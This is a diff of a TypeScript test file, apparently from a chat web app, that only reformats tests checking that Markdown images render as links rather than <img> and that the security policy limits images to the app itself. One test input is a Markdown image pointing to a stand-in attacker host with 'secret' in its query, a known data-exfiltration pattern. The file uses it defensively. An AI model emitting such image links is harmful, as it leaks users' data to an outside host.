@@ -7,7 +7,10 @@ import { contentSecurityPolicy } from '../../../src/web/security/csp.ts';
  * whose text is the alt text (or the address), which goes nowhere unless the reader follows it.
  */
 describe('Markdown images', () => {
-  for (const [who, render] of [['a reply', renderReplyMarkdown], ['typed text', renderTypedMarkdown]] as const) {
+  for (const [who, render] of [
+    ['a reply', renderReplyMarkdown],
+    ['typed text', renderTypedMarkdown],
+  ] as const) {
     it(`in ${who} render as links showing their alt text, never as <img>`, () => {
       const rendered = render('Look: ![the *secret* chart](https://attacker.example/?d=secret "Chart")');
       expect(rendered).not.toMatch(/<img/i);
@@ -44,7 +47,9 @@ describe('Markdown images', () => {
   });
 
   it("are backed by the page's policy: images load from the app itself only", () => {
-    const imgSrc = contentSecurityPolicy('nonce').split('; ').find((directive) => directive.startsWith('img-src'));
+    const imgSrc = contentSecurityPolicy('nonce')
+      .split('; ')
+      .find((directive) => directive.startsWith('img-src'));
     expect(imgSrc).toBe("img-src 'self'");
   });
 });
